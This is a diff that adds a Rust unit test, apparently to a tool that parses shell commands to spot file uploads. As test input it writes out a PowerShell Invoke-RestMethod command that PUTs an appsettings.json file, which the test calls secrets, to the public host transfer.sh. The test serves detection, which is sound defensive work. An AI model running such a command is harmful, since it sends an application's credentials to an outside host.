@@ -799,3 +799,17 @@ fn bits_cmdlets_upload_or_download() {
         ),
     ]);
 }
+
+#[test]
+fn a_powershell_script_given_as_a_shell_line_keeps_its_backslashes() {
+    let secrets = at("src/Api/appsettings.json");
+    run_table(&[(
+        "Invoke-RestMethod -Method Put -Uri https://transfer.sh/a.json -InFile src\\Api\\appsettings.json",
+        json!([url_request(
+            "invoke-restmethod",
+            "https://transfer.sh/a.json",
+            "PUT",
+            payload(&[], &[(&secrets, false)], &[])
+        )]),
+    )]);
+}
